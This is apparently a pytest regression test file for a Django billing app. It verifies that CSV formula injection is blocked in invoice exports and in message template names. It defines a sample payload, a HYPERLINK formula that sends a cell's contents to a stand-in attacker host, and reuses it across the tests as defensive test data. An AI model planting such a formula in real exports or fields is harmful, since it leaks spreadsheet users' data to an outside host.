"""CSV formula injection (OWASP): template names follow the provider's rule, and
every CSV cell that a spreadsheet would run as a formula is neutralised (found
from outside: a template named =HYPERLINK(...) landed unescaped in the invoice
CSV)."""

import csv
import io
from datetime import UTC, date, datetime

import pytest
from django.core.exceptions import ValidationError
from django.urls import reverse

from billing.csv_safe import csv_cell
from messaging.models import MessageTemplate
from tests.billing_world import World, rate_card
from tests.factories import CompanyAdminFactory, CompanyFactory

pytestmark = pytest.mark.django_db

EVIL = '=HYPERLINK("http://evil.example/?"&A1,"Open")'


@pytest.mark.parametrize(
    "value,expected",
    [
        (EVIL, "'" + EVIL),
        ("+34 6•••12", "'+34 6•••12"),
        ("-1+1", "'-1+1"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\tcmd", "'\tcmd"),
        ("\rcmd", "'\rcmd"),
        ("marketing", "marketing"),
        ("0.0615", "0.0615"),
        ("", ""),
    ],
)
def test_csv_cells_that_start_a_formula_are_neutralised(value, expected):
    assert csv_cell(value) == expected


@pytest.mark.parametrize(
    "name", [EVIL, "Order Shipped", "order-shipped", "órden", "x" * 513]
)
def test_template_names_follow_the_providers_rule(name):
    template = MessageTemplate(
        company=CompanyFactory(), name=name, category="marketing", body="Hi"
    )
    with pytest.raises(ValidationError) as refused:
        template.full_clean()
    assert "name" in refused.value.message_dict


def test_a_template_with_a_formula_name_is_refused_in_the_admin(client, cs_user):
    company = CompanyFactory()
    client.force_login(cs_user)
    response = client.post(
        reverse("admin:messaging_messagetemplate_add"),
        {
            "company": company.pk,
            "name": EVIL,
            "language": "en_US",
            "category": "marketing",
            "status": "approved",
            "body": "Hi",
        },
    )
    assert response.status_code == 200
    assert "lowercase letters, digits and underscores" in response.content.decode()
    assert not MessageTemplate.objects.exists()


def test_the_invoice_csv_neutralises_a_formula_stored_before_the_rule(client):
    # given: a template stored with a formula name before names were checked
    rate_card(
        rates={("Spain", "marketing"): "0.0615"},
        effective_from=datetime(2026, 1, 1, tzinfo=UTC),
    )
    t = datetime(2026, 10, 6, 9, tzinfo=UTC)
    world = World(client, start=t)
    MessageTemplate.objects.filter(pk=world.templates["marketing"].pk).update(name=EVIL)
    world.templates["marketing"].refresh_from_db()
    world.send_and_deliver("marketing", t)
    invoice = world.invoice(date(2026, 10, 1))
    # when
    client.force_login(CompanyAdminFactory(company=world.company))
    response = client.get(reverse("billing:invoice-csv", args=[invoice.pk]))
    rows = list(
        csv.DictReader(io.StringIO(b"".join(response.streaming_content).decode()))
    )
    # then: no cell starts a formula
    assert rows[0]["template"] == "'" + EVIL
    starts = [cell[0] for row in rows for cell in row.values() if cell]
    assert not set(starts) & set("=+-@\t\r")
